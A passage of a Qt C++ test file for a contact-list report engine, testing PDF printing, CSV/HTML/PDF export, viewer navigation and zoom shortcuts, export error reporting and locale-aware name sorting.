void TestReportEngine::printingUsesTheSameLayout()
{
    const auto report
        = makeReport(sourceFile(QStringLiteral("data/phonelist.rpt")), contactRows(120));
    QVERIFY2(report, qPrintable(report.error()));
    QTemporaryDir dir;
    QPrinter printer(QPrinter::HighResolution);
    printer.setOutputFormat(QPrinter::PdfFormat);
    printer.setOutputFileName(dir.filePath(QStringLiteral("printed.pdf")));
    printer.setPageSize(QPageSize(QPageSize::Letter));
    const Result<void> printed = printReport(*report, printer);
    QVERIFY2(printed, qPrintable(printed.error()));
    QString info;
    QCOMPARE(pdfPageCount(dir.filePath(QStringLiteral("printed.pdf")), &info), report->pageCount());
    const QString page2 = pdfText(dir.filePath(QStringLiteral("printed.pdf")), 2);
    QVERIFY2(page2.contains(QStringLiteral("Page 2 of %1").arg(report->pageCount())),
             qPrintable(page2));
}

void TestReportEngine::failedExportKeepsExistingFileAndSaysWhy()
{
    const auto report
        = makeReport(sourceFile(QStringLiteral("data/phonelist.rpt")), contactRows(5));
    QVERIFY2(report, qPrintable(report.error()));
    QTemporaryDir dir;
    const QString missingFolder = dir.filePath(QStringLiteral("no/such/folder/out.pdf"));
    const Result<void> pdfFailed = exportPdf(*report, missingFolder);
    QVERIFY(!pdfFailed);
    QVERIFY2(pdfFailed.error().contains(missingFolder), qPrintable(pdfFailed.error()));
    QVERIFY(!exportCsv(*report, missingFolder));
    const Result<void> htmlFailed = exportHtml(*report, missingFolder);
    QVERIFY(!htmlFailed);
    QVERIFY2(htmlFailed.error().contains(missingFolder), qPrintable(htmlFailed.error()));

    // Failing to write over a folder leaves it as it was.
    const QString folderPath = dir.filePath(QStringLiteral("taken"));
    QVERIFY(QDir().mkpath(folderPath + QStringLiteral("/inside")));
    QVERIFY(!exportCsv(*report, folderPath));
    QVERIFY(QFileInfo(folderPath + QStringLiteral("/inside")).isDir());

    // The HTML export holds every row.
    const QString html = dir.filePath(QStringLiteral("r.html"));
    const Result<void> written = exportHtml(*report, html);
    QVERIFY2(written, qPrintable(written.error()));
    const QString text = QString::fromUtf8(readAll(html));
    QCOMPARE(text.count(QStringLiteral("<tr><td>")), 5);
    QVERIFY(text.contains(QStringLiteral("<title>Phone Listing</title>")));
}

void TestReportEngine::controlOpensViewerAndViewerNavigates()
{
    TestAppFolder folder;
    QVERIFY(installReports(folder, 50));
    QStringList errors;
    ReportControlSettings settings;
    settings.reportError = [&](const QString &, const QString &text) {
        errors << text;
    };
    ViewerReportControl control(settings);
    control.setReportFileName(folder.file(QStringLiteral("phonelist.rpt")));
    QVERIFY(control.run());
    QVERIFY2(errors.isEmpty(), qPrintable(errors.join(QLatin1Char('\n'))));
    ReportViewer *viewer = control.lastViewer();
    QVERIFY(viewer);
    QTRY_VERIFY(viewer->isVisible());
    QCOMPARE(viewer->windowTitle(), QStringLiteral("Phone Listing"));
    QVERIFY(!viewer->parentWidget());
    QCOMPARE(viewer->currentPage(), 0);
    viewer->findChild<QPushButton *>(QStringLiteral("cmdNextPage"))->click();
    QCOMPARE(viewer->currentPage(), 1);
    viewer->findChild<QPushButton *>(QStringLiteral("cmdLastPage"))->click();
    QCOMPARE(viewer->currentPage(), viewer->report().pageCount() - 1);
    viewer->findChild<QPushButton *>(QStringLiteral("cmdNextPage"))->click();
    QCOMPARE(viewer->currentPage(), viewer->report().pageCount() - 1);
    viewer->findChild<QPushButton *>(QStringLiteral("cmdFirstPage"))->click();
    QCOMPARE(viewer->currentPage(), 0);
    const QSize small = (viewer->setZoomPercent(50),
                         viewer->findChild<QWidget *>(QStringLiteral("pageView"))->size());
    viewer->setZoomPercent(200);
    QCOMPARE(viewer->findChild<QWidget *>(QStringLiteral("pageView"))->size().width()
                 > 3 * small.width(),
             true);
    // The page in view paints without trouble.
    QVERIFY(!viewer->grab().isNull());

    // An export that fails goes to the viewer's error reporter, naming the file.
    const QString bad = folder.file(QStringLiteral("missing/out.pdf"));
    QVERIFY(!viewer->exportTo(bad, ReportViewer::Format::Pdf));
    QCOMPARE(errors.size(), 1);
    QVERIFY2(errors.first().contains(bad), qPrintable(errors.first()));
    QVERIFY(viewer->exportTo(folder.file(QStringLiteral("out.csv")), ReportViewer::Format::Csv));
    closeAllReportViewers();
    QTRY_VERIFY(openReportViewers().isEmpty());
}

void TestReportEngine::controlReportsFailureAndOpensNothing()
{
    TestAppFolder folder;
    QVERIFY(folder.createDemoDatabase(3));
    QVERIFY(folder.writeFile(QStringLiteral("emaillist.rpt"),
                             "{\n  \"title\": \"Email\",\n  oops\n}\n"));
    const QByteArray databaseBefore = readAll(folder.databasePath());
    QList<QPair<QString, QString>> errors;
    ReportControlSettings settings;
    settings.reportError = [&](const QString &title, const QString &text) {
        errors.append({title, text});
    };

    ViewerReportControl control(settings);
    control.setReportFileName(folder.file(QStringLiteral("emaillist.rpt")));
    QVERIFY(!control.run());
    control.setReportFileName(folder.file(QStringLiteral("phonelist.rpt")));
    QVERIFY(!control.run());
    QCOMPARE(errors.size(), 2);
    QVERIFY2(errors.at(0).second.contains(folder.file(QStringLiteral("emaillist.rpt")))
                 && errors.at(0).second.contains(QStringLiteral("line 3")),
             qPrintable(errors.at(0).second));
    QVERIFY2(errors.at(1).second.contains(folder.file(QStringLiteral("phonelist.rpt"))),
             qPrintable(errors.at(1).second));
    QVERIFY(openReportViewers().isEmpty());
    QCOMPARE(readAll(folder.databasePath()), databaseBefore);
}

void TestReportEngine::viewersCloseTogetherAndDoNotHoldTheProgram()
{
    TestAppFolder folder;
    QVERIFY(installReports(folder, 10));
    for (const char *name : {"phonelist.rpt", "addresslist.rpt"}) {
        ViewerReportControl control;
        control.setReportFileName(folder.file(QLatin1String(name)));
        QVERIFY(control.run());
        QVERIFY(!control.lastViewer()->testAttribute(Qt::WA_QuitOnClose));
        QVERIFY(control.lastViewer()->testAttribute(Qt::WA_DeleteOnClose));
    }
    QTRY_COMPARE(openReportViewers().size(), 2);
    QPointer<ReportViewer> first = openReportViewers().first();
    closeAllReportViewers();
    QTRY_VERIFY(openReportViewers().isEmpty());
    QTRY_VERIFY(first.isNull()); // deleted, not just hidden
}

void TestReportEngine::viewerDoesNotKeepTheProgramRunning()
{
    TestAppFolder folder;
    QVERIFY(installReports(folder, 10));
    const ChildResult result = runChild(QStringLiteral(VIEWER_QUIT_HELPER),
                                        {folder.file(QStringLiteral("emaillist.rpt"))});
    QVERIFY(result.started);
    QVERIFY2(result.exitCode == 0, result.errors.constData());
}

void TestReportEngine::viewerKeys_data()
{
    QTest::addColumn<QString>("focus"); // the widget that has the focus
    QTest::addColumn<int>("key");
    QTest::addColumn<int>("modifiers");
    QTest::addColumn<int>("wheel"); // instead of a key: a wheel turn over the page
    QTest::addColumn<int>("zoomBefore");
    QTest::addColumn<int>("zoomAfter"); // -1: the viewer has closed
    const int ctrl = Qt::ControlModifier;
    const int none = Qt::NoModifier;
    QTest::newRow("Escape closes")
        << "cmdNextPage" << int(Qt::Key_Escape) << none << 0 << 100 << -1;
    QTest::newRow("Escape in the page box closes")
        << "spnPage" << int(Qt::Key_Escape) << none << 0 << 100 << -1;
    QTest::newRow("Ctrl+W closes") << "cboZoom" << int(Qt::Key_W) << ctrl << 0 << 100 << -1;
    QTest::newRow("Space on Close closes")
        << "cmdClose" << int(Qt::Key_Space) << none << 0 << 100 << -1;
    QTest::newRow("Ctrl++ zooms in") << "spnPage" << int(Qt::Key_Plus) << ctrl << 0 << 100 << 125;
    QTest::newRow("Ctrl+= zooms in") << "pageArea" << int(Qt::Key_Equal) << ctrl << 0 << 150 << 200;
    QTest::newRow("Ctrl++ at the largest")
        << "cmdPrint" << int(Qt::Key_Plus) << ctrl << 0 << 300 << 300;
    QTest::newRow("Ctrl+- zooms out") << "spnPage" << int(Qt::Key_Minus) << ctrl << 0 << 100 << 75;
    QTest::newRow("Ctrl+- between steps")
        << "cmdPrint" << int(Qt::Key_Minus) << ctrl << 0 << 110 << 100;
    QTest::newRow("Ctrl+- at the smallest")
        << "cmdPrint" << int(Qt::Key_Minus) << ctrl << 0 << 50 << 50;
    QTest::newRow("Ctrl+0 resets") << "cboZoom" << int(Qt::Key_0) << ctrl << 0 << 200 << 100;
    QTest::newRow("Ctrl+wheel up") << "pageArea" << 0 << ctrl << 120 << 100 << 125;
    QTest::newRow("Ctrl+wheel down two notches") << "pageArea" << 0 << ctrl << -240 << 100 << 50;
    QTest::newRow("Ctrl+wheel half a notch") << "pageArea" << 0 << ctrl << 60 << 100 << 100;
    QTest::newRow("wheel alone scrolls") << "pageArea" << 0 << none << -120 << 100 << 100;
}

void TestReportEngine::viewerKeys()
{
    QFETCH(QString, focus);
    QFETCH(int, key);
    QFETCH(int, modifiers);
    QFETCH(int, wheel);
    QFETCH(int, zoomBefore);
    QFETCH(int, zoomAfter);
    auto report = makeReport(sourceFile(QStringLiteral("data/phonelist.rpt")), contactRows(120));
    QVERIFY2(report, qPrintable(report.error()));
    QPointer<ReportViewer> viewer
        = new ReportViewer(std::make_unique<Report>(std::move(report).value()), {});
    const auto cleanup = qScopeGuard([&] { delete viewer; });
    viewer->setZoomPercent(zoomBefore);
    viewer->show();
    QVERIFY(QTest::qWaitForWindowActive(viewer));
    auto *target = viewer->findChild<QWidget *>(focus);
    QVERIFY(target);
    target->setFocus();
    QTRY_COMPARE(QApplication::focusWidget(), target);

    if (wheel) {
        QWidget *page = viewer->findChild<QScrollArea *>(QStringLiteral("pageArea"))->viewport();
        const QPointF at(20, 20);
        QWheelEvent event(at, page->mapToGlobal(at), QPoint(), QPoint(0, wheel), Qt::NoButton,
                          Qt::KeyboardModifiers(modifiers), Qt::NoScrollPhase, false);
        QApplication::sendEvent(page, &event);
    } else {
        QTest::keyClick(QApplication::focusWidget(), Qt::Key(key),
                        Qt::KeyboardModifiers(modifiers));
    }

    if (zoomAfter < 0) {
        QTRY_VERIFY(viewer.isNull()); // closed and deleted
        return;
    }
    QVERIFY(viewer->isVisible());
    QCOMPARE(viewer->zoomPercent(), zoomAfter);
    QCOMPARE(viewer->findChild<QComboBox *>(QStringLiteral("cboZoom"))->currentData().toInt(),
             zoomAfter);
}

void TestReportEngine::exportFromDialog_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<QString>("typed");    // the name given in the save dialog
    QTest::addColumn<QString>("written");  // the file that must appear
    QTest::addColumn<QByteArray>("start"); // its first bytes
    const int csv = int(ReportViewer::Format::Csv);
    const QByteArray csvStart = utf8Bom + "Name,Work,Home,Cell,Fax\r\n";
    QTest::newRow("CSV, no extension") << csv << "phones"
                                       << "phones.csv" << csvStart;
    QTest::newRow("CSV, trailing dot") << csv << "phones."
                                       << "phones.csv" << csvStart;
    QTest::newRow("CSV, other extension kept") << csv << "phones.txt"
                                               << "phones.txt" << csvStart;
    QTest::newRow("CSV, dot in the folder") << csv << "v1.2/phones"
                                            << "v1.2/phones.csv" << csvStart;
    QTest::newRow("PDF, no extension") << int(ReportViewer::Format::Pdf) << "listing"
                                       << "listing.pdf" << QByteArray("%PDF-");
    QTest::newRow("HTML, no extension") << int(ReportViewer::Format::Html) << "Phone Listing"
                                        << "Phone Listing.html" << QByteArray("<!DOCTYPE html>");
}

void TestReportEngine::exportFromDialog()
{
    QFETCH(int, format);
    QFETCH(QString, typed);
    QFETCH(QString, written);
    QFETCH(QByteArray, start);
    QTemporaryDir dir;
    const QString path = dir.filePath(written);
    QVERIFY(QDir().mkpath(QFileInfo(path).path()));
    auto report = makeReport(sourceFile(QStringLiteral("data/phonelist.rpt")), contactRows(12));
    QVERIFY2(report, qPrintable(report.error()));
    QStringList errors;
    ReportViewer viewer(std::make_unique<Report>(std::move(report).value()),
                        [&](const QString &, const QString &text) { errors << text; });
    QStringList suggested;
    viewer.setFileAsker([&](const QString &suggestedPath, ReportViewer::Format) {
        suggested << suggestedPath;
        return suggested.size() == 1 ? dir.filePath(typed) : QString(); // then cancels
    });

    viewer.exportWithDialog(ReportViewer::Format(format));
    QVERIFY2(errors.isEmpty(), qPrintable(errors.join(QLatin1Char('\n'))));
    const QByteArray bytes = readAll(path);
    QVERIFY2(bytes.startsWith(start), bytes.left(40).constData());
    const QString status
        = viewer.findChild<QStatusBar *>(QStringLiteral("statusBar"))->currentMessage();
    QVERIFY2(status.contains(QDir::toNativeSeparators(path)), qPrintable(status));

    // The next export starts in the folder just used, with the report's name.
    viewer.exportWithDialog(ReportViewer::Format::Csv);
    QCOMPARE(suggested.size(), 2);
    QCOMPARE(QFileInfo(suggested.at(1)).absolutePath(), QFileInfo(path).absolutePath());
    QCOMPARE(QFileInfo(suggested.at(1)).fileName(), QStringLiteral("Phone Listing.csv"));
    QCOMPARE(QDir(QFileInfo(path).path()).entryList(QDir::Files),
             QStringList{QFileInfo(path).fileName()});
}

void TestReportEngine::printerThatCannotStartIsReported()
{
    const auto report
        = makeReport(sourceFile(QStringLiteral("data/emaillist.rpt")), contactRows(3));
    QVERIFY2(report, qPrintable(report.error()));
    QTemporaryDir dir;
    QPrinter printer;
    printer.setOutputFormat(QPrinter::PdfFormat);
    const QString path = dir.filePath(QStringLiteral("no/such/folder/printed.pdf"));
    printer.setOutputFileName(path);
    const Result<void> printed = printReport(*report, printer);
    QVERIFY(!printed);
    QVERIFY2(printed.error().contains(path)
                 && printed.error().contains(QStringLiteral("Email Listing")),
             qPrintable(printed.error()));
}

void TestReportEngine::dataSourceOrdersNamesByLocale_data()
{
    QTest::addColumn<QByteArray>("locale");
    QTest::addColumn<QStringList>("expected"); // last name and first name, in listing order
    QTest::newRow("English: accents with their letters")
        << QByteArray("en_US.UTF-8") << QStringList{"Ćosić/Ana",     "Łukasik/Jan",  "Öberg/Ida",
                                                    "Walker/Élodie", "Walker/Sarah", "Yılmaz/Can"};
    QTest::newRow("Swedish: Ö after Z")
        << QByteArray("sv_SE.UTF-8") << QStringList{"Ćosić/Ana",    "Łukasik/Jan", "Walker/Élodie",
                                                    "Walker/Sarah", "Yılmaz/Can",  "Öberg/Ida"};
}

void TestReportEngine::dataSourceOrdersNamesByLocale()
{
    QFETCH(QByteArray, locale);
    QFETCH(QStringList, expected);
    const QByteArray before = qgetenv("LC_ALL");
    qputenv("LC_ALL", locale);
    const auto restore = qScopeGuard([&before] { qputenv("LC_ALL", before); });
    TestAppFolder folder;
    QVERIFY(folder.createDatabase(
        {makeContact("1", "Yılmaz", "Can"), makeContact("2", "Walker", "Sarah"),
         makeContact("3", "Łukasik", "Jan"), makeContact("4", "Walker", "Élodie"),
         makeContact("5", "Ćosić", "Ana"), makeContact("6", "Öberg", "Ida")}));
    const Result<ReportData> data = readReportData(
        folder.databasePath(),
        QStringLiteral("select lastname, firstname from contactsdb order by lastname, firstname"));
    QVERIFY2(data, qPrintable(data.error()));
    QStringList actual;
    for (const QStringList &row : data->rows)
        actual << row.at(0) + QLatin1Char('/') + row.at(1);
    QCOMPARE(actual, expected);
}

QTEST_MAIN(TestReportEngine)
#include "tst_reportengine.moc"
